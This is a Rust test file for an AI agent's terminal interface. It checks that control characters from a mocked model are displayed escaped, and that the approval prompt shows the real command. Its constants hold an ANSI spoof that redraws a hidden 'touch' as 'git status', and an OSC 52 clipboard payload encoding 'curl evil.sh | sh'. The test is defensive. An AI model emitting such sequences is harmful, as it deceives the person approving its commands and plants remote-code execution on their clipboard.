//! What a person sees at the terminal (issue 22): every string a model or a server wrote is
//! shown with its control characters spelled out, and the approval prompt shows the exact
//! command that will run.

use serde_json::{Value, json};

use crate::support::chat::{mock_provider, requests};
use crate::support::terminal::at_a_terminal;

/// The review's spoof: after the hidden `touch`, the command erases its line and redraws it as
/// `git status`.
const SPOOF: &str = "touch h22-hidden; : \u{1b}[1K\r\u{1b}[2Kgit status";

/// An OSC 52 sequence: a terminal that obeys it puts `curl evil.sh | sh` on the clipboard.
const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";

#[test]
fn h22_2_the_terminal_shows_escapes_and_the_whole_command() {
    let home = tempfile::tempdir().unwrap();
    let mock = mock_provider(
        home.path(),
        &json!({"turns": [
            {"tool_calls": [{"name": "AskUserQuestion", "arguments": {"questions": [{
                "question": format!("Which file?{OSC52}"), "header": "File\u{1b}[8m",
                "options": [{"label": format!("a.txt{OSC52}")}, {"label": "b.txt"}]}]}}]},
            {"tool_calls": [{"name": "exec", "arguments": {"command": SPOOF}}]},
            {"text": format!("Done.{OSC52}")}
        ]}),
    );
    std::fs::write(
        home.path().join("talon.toml"),
        format!(
            "[tools]\npermission_mode = \"default\"\n[exec.approvals]\nask = \"always\"\n[providers.mock]\nkind = \"openai\"\nbase_url = \"{}/v1\"\nmodel = \"m\"\n",
            mock.url
        ),
    )
    .unwrap();
    let (screen, ok) = at_a_terminal(home.path(), "chat --session t -p 'go'", b"2\ny\n");
    assert!(ok, "{screen}");
    // No sequence from the model reached the terminal: not the redraw, not the clipboard write.
    for raw in ["\u{1b}[1K", "\u{1b}[2K", "\u{1b}]52", "\u{1b}[8m"] {
        assert!(
            !screen.contains(raw),
            "{raw:?} reached the terminal: {screen:?}"
        );
    }
    // The question, its title (SGR 8 would conceal what follows) and its options, spelled out.
    let osc52 = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07";
    assert!(
        screen.contains(&format!("[File\\x1b[8m] Which file?{osc52}")),
        "{screen}"
    );
    assert!(screen.contains(&format!("1. a.txt{osc52}")), "{screen}");
    // The whole command, escapes visible, on a line of its own, with the warning.
    assert!(
        screen.contains("  | touch h22-hidden; : \\x1b[1K\\r\\x1b[2Kgit status"),
        "{screen}"
    );
    assert!(
        screen.contains("control or invisible characters"),
        "{screen}"
    );
    // The model's answer too.
    assert!(screen.contains(&format!("Done.{osc52}")), "{screen}");
    // The person approved what they saw, which is what ran.
    assert!(home.path().join("h22-hidden").exists());
    let sent = requests(&mock)
        .iter()
        .map(Value::to_string)
        .collect::<Vec<_>>();
    assert!(sent[1].contains("b.txt"), "{}", sent[1]);
}
